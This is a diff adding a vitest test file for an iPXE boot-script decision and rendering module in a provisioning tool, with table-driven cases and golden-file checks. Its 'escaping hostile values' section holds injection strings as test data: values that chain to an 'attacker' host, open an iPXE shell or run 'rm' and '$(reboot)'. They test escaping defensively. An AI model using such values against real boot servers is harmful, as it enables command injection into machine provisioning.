@@ -1,0 +1,116 @@
+import { describe, expect, it } from 'vitest';
+import type { ResolvedNode } from '../../../server/model/inventory.js';
+import type { LifecycleStatus } from '../../../server/model/lifecycle.js';
+import type { Mac } from '../../../server/model/mac.js';
+import { decideScript, type BootSettings, type MachineFacts } from '../../../server/protocol/ipxe/decide.js';
+import { createIpxeRenderer } from '../../../server/protocol/ipxe/render.js';
+import { RackseedError } from '../../../server/model/errors.js';
+import { expectGolden } from '../../support/golden.js';
+import { projectIpxeRenderer } from '../../support/ipxe.js';
+
+const settings: BootSettings = { baseUrl: 'http://10.0.0.1:8080', provisionKernel: 'installer/vmlinuz', provisionInitrd: 'installer/initrd.img' };
+
+const gpu001: ResolvedNode = {
+  name: 'gpu001',
+  macs: ['52:54:00:00:01:01' as Mac],
+  ip: '10.0.1.11',
+  group: 'gpu',
+  labels: {},
+  image: 'debian12-cuda',
+  roles: ['base', 'nvidia', 'slurm-compute'],
+  kernelArgs: ['console=ttyS0,115200n8', 'quiet'],
+  hardware: {},
+  installedBoot: 'local',
+  uefiLoader: 'ipxe.efi',
+  leaseSeconds: 86400,
+  data: {},
+};
+const facts: MachineFacts = { mac: '52:54:00:00:01:01', uuid: '4c4c4544-0042-3010-8057-b4c04f533532', platform: 'pcbios', buildarch: 'i386' };
+const status = (state: LifecycleStatus['state'], extra: Partial<LifecycleStatus> = {}): LifecycleStatus => ({ state, reimageRequested: false, facts: {}, ...extra });
+
+describe('which script a machine gets (pure decision)', () => {
+  const table: Array<[string, ResolvedNode | undefined, LifecycleStatus | undefined, string]> = [
+    ['unknown machine', undefined, undefined, 'unknown'],
+    ['unknown machine seen before', undefined, status('discovered'), 'unknown'],
+    ['inventory node never seen', gpu001, undefined, 'provision'],
+    ['assigned node', gpu001, status('assigned'), 'provision'],
+    ['rebooted mid-install', gpu001, status('provisioning', { stage: 'download' }), 'provision'],
+    ['installed node', gpu001, status('installed'), 'local'],
+    ['configuring node', gpu001, status('configuring'), 'local'],
+    ['ready node', gpu001, status('ready'), 'local'],
+    ['ready node with reimage requested', gpu001, status('ready', { reimageRequested: true }), 'provision'],
+    ['failed while configuring keeps its OS', gpu001, status('failed', { reason: 'slurmd down' }), 'local'],
+    ['failed during install is not retried implicitly', gpu001, status('failed', { reason: 'sha256 mismatch', stage: 'verify' }), 'unavailable'],
+    ['failed install with reimage requested', gpu001, status('failed', { reason: 'x', stage: 'verify', reimageRequested: true }), 'provision'],
+    ['group without an image', { ...gpu001, image: undefined }, status('assigned'), 'unavailable'],
+    ['installed, group boots the image kernel', { ...gpu001, installedBoot: 'kernel' }, status('ready'), 'kernel'],
+  ];
+  it.each(table)('%s -> %s', (_name, node, st, kind) => {
+    expect(decideScript({ facts, node, status: st, settings }).kind).toBe(kind);
+  });
+});
+
+describe('iPXE scripts (exact text)', () => {
+  const renderer = projectIpxeRenderer();
+  const render = (node: ResolvedNode | undefined, st: LifecycleStatus | undefined, f: MachineFacts = facts) => {
+    const plan = decideScript({ facts: f, node, status: st, settings });
+    return plan.kind === 'unknown'
+      ? renderer.render('unknown', { mac: f.mac, product: f.product ?? 'unknown product', serial: f.serial ?? 'unknown' })
+      : renderer.render(plan.kind, plan.context);
+  };
+
+  it('entry script chains to the per-machine URL with the MAC and SMBIOS variables', () => {
+    const text = renderer.render('entry', { base_url: settings.baseUrl, machine_url: `${settings.baseUrl}/ipxe/machine` });
+    expect(text).toContain('http://10.0.0.1:8080/ipxe/machine?mac=${mac:hexhyp}&uuid=${uuid:uristring}&serial=${serial:uristring}');
+    expectGolden('ipxe/entry.ipxe', text);
+  });
+  it('unknown machine: registered, then the next boot device', () => {
+    expectGolden('ipxe/unknown.ipxe', render(undefined, undefined, { ...facts, product: 'PowerEdge XE9680', serial: 'CN7016356T0002' }));
+  });
+  it('node to provision: kernel, initrd and command line from its group', () => {
+    expectGolden('ipxe/provision.ipxe', render(gpu001, status('assigned')));
+  });
+  it('node to boot locally', () => {
+    expectGolden('ipxe/local.ipxe', render(gpu001, status('ready')));
+  });
+  it('installed node booting its image kernel with root on the local disk', () => {
+    expectGolden('ipxe/kernel.ipxe', render({ ...gpu001, installedBoot: 'kernel' }, status('ready')));
+  });
+});
+
+describe('escaping hostile values', () => {
+  const renderer = projectIpxeRenderer();
+  it('SMBIOS strings cannot inject commands, variables or new lines into a script', () => {
+    const hostile = 'Evil ${net0/mac} || chain http://attacker/x\n#!ipxe\nshell; `rm` "q"';
+    const text = renderer.render('unknown', { mac: '52:54:00:00:01:01', product: hostile, serial: '$(reboot)' });
+    expect(text).not.toContain('${net0');
+    expect(text).not.toContain('||');
+    expect(text).not.toMatch(/\nchain/);
+    expect(text).not.toContain('$(');
+    expect(text.split('\n').filter((l) => l.startsWith('#!ipxe'))).toHaveLength(1);
+    expectGolden('ipxe/unknown-hostile.ipxe', text);
+  });
+  it('an unsafe kernel argument is refused, not written', () => {
+    const node = { ...gpu001, kernelArgs: ['console=ttyS0', 'x=${root}||shell'] };
+    const plan = decideScript({ facts, node, status: status('assigned'), settings });
+    expect(plan.kind).toBe('provision');
+    if (plan.kind !== 'provision') return;
+    expect(() => renderer.render('provision', plan.context)).toThrow(/unsafe argument/);
+  });
+  it('URLs are encoded so that iPXE does not expand or split them', () => {
+    const plan = decideScript({ facts, node: gpu001, status: status('assigned'), settings: { ...settings, provisionKernel: 'installer/vm linuz$x' } });
+    if (plan.kind !== 'provision') throw new Error('expected provision');
+    const text = renderer.render('provision', plan.context);
+    expect(text).toContain('/files/installer/vm%20linuz%24x');
+  });
+  it('a template referencing a missing value is an error, not an empty string', () => {
+    const r = createIpxeRenderer({ entry: 'chain {{ base_url | ipxe_url_base }}/{{ missing }}', unknown: '', provision: '', local: '', kernel: '', unavailable: '' });
+    expect(() => r.render('entry', { base_url: 'http://x' })).toThrow(RackseedError);
+    try {
+      r.render('entry', { base_url: 'http://x' });
+    } catch (e) {
+      expect((e as RackseedError).code).toBe('TEMPLATE_MISSING_VALUE');
+    }
+    expect(() => projectIpxeRenderer().render('provision', { node: 'x' })).toThrow(/missing|undefined/);
+  });
+});
